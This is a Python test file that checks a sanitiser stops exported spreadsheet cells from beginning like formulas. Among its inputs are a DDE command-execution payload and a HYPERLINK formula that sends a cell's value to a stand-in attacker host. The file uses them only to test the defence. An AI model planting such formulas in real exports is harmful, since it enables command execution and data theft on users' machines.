"""What a spreadsheet must not take for a formula."""

import pytest

from app.exports.table import harmless


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\rx",
        "\nx",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        '"=1',
        "'=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\u22121",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1)',
    ],
)
def test_a_cell_never_begins_like_a_formula(text: str) -> None:
    written = harmless(text)
    assert written.startswith("'")
    assert written.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("text", "becomes"),
    [
        ("Ada;=1+1", "Ada;'=1+1"),
        ('Ada;"=1+1"', 'Ada;\'"=1+1"'),
        ("Ada,-1", "Ada,'-1"),
        ("Ada\r\n@x", "Ada\r'\n'@x"),
        ("Ada\t=1", "Ada\t'=1"),
    ],
)
def test_nor_does_a_cell_that_another_reader_would_see(text: str, becomes: str) -> None:
    assert harmless(text) == becomes


@pytest.mark.parametrize(
    "text", ["", "Ada", "Anne-Marie", "ada@example.com", "1 + 1 = 2", "O'Neil", "Smith, Ada", "'", "猫"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
